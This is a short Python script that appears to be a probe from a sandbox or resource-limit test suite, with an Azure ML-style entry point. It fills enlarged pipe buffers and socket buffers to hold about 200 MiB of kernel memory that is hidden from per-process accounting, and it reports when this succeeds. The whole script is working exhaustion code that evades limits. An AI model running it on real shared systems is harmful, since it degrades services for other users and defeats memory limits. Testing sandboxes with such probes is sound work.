"""Fills pipes and sockets, whose memory no process shows (by itself 200 MiB)."""

import fcntl
import os
import socket
import time

from attack import exhausting


@exhausting
def azureml_main(dataframe1=None, dataframe2=None):
    held, total = [], 0
    while total < 200 << 20 and len(held) < 900:
        ours, its = os.pipe()
        try:
            fcntl.fcntl(its, 1031, 1 << 20)
        except OSError:
            pass
        os.set_blocking(its, False)
        total += os.write(its, bytes(1 << 20))
        held += [ours, its]
        pair = socket.socketpair()
        pair[0].setblocking(False)
        total += pair[0].send(bytes(200000))
        held += [end.detach() for end in pair]
    time.sleep(0.7)
    return f"holds {total >> 20} MiB in pipes and sockets" if total > 150 << 20 else ""
